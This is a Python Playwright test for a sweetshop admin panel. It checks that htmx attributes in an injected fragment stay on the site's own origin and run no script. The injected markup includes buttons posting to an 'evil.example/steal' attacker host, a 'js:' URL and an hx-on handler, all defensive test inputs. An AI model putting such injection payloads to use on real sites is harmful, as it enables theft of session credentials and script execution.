"""htmx attributes in an injected fragment cannot reach another site (carrying the admin's
CSRF header) nor run script: requests stay on our origin, evaluation stays off."""
from __future__ import annotations

from playwright.sync_api import expect

from sweetshop.services.admin_auth import create_or_reset_admin

EMAIL, PASSWORD = "owner@mithaas.example", "correct horse battery"

INJECTED = """
document.querySelector("main").insertAdjacentHTML("beforeend", `
  <div id="injected">
    <button id="to-evil" hx-post="https://evil.example/steal" hx-target="this">evil</button>
    <button id="to-evil-relative" hx-post="//evil.example/steal" hx-target="this">evil 2</button>
    <button id="to-js" hx-post="js:window.__pwned = 'action'" hx-target="this">js</button>
    <button id="on-click" hx-on:click="window.__pwned = 'hx-on'">on</button>
    <button id="to-us" hx-get="/admin/?injected=1" hx-target="this" hx-select="h1">ours</button>
  </div>`);
htmx.process(document.getElementById("injected"));
"""


def test_injected_htmx_attributes_reach_only_our_paths_and_run_no_script(app, live_server,
                                                                         phone):
    with app.app_context():
        create_or_reset_admin(EMAIL, PASSWORD)
    page = phone
    page.goto(live_server + "/admin/")
    page.get_by_label("Email").fill(EMAIL)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_role("heading", name="Dashboard")).to_be_visible()
    assert page.evaluate("htmx.config.mode") == "same-origin"

    sent = []
    page.on("request", lambda request: sent.append((request.url, request.headers)))
    page.evaluate(INJECTED)
    for button in ("to-evil", "to-evil-relative", "to-js", "on-click", "to-us"):
        page.locator(f"#{button}").click()
    # The request to our own page is made (so htmx did process the fragment) ...
    expect(page.locator("#to-us")).to_contain_text("Dashboard")
    page.wait_for_timeout(300)
    # ... and nothing else left the page, and no attribute ran script.
    foreign = [url for url, _ in sent if not url.startswith(live_server)]
    assert foreign == []
    assert any("injected=1" in url for url, _ in sent)
    assert page.evaluate("window.__pwned") is None
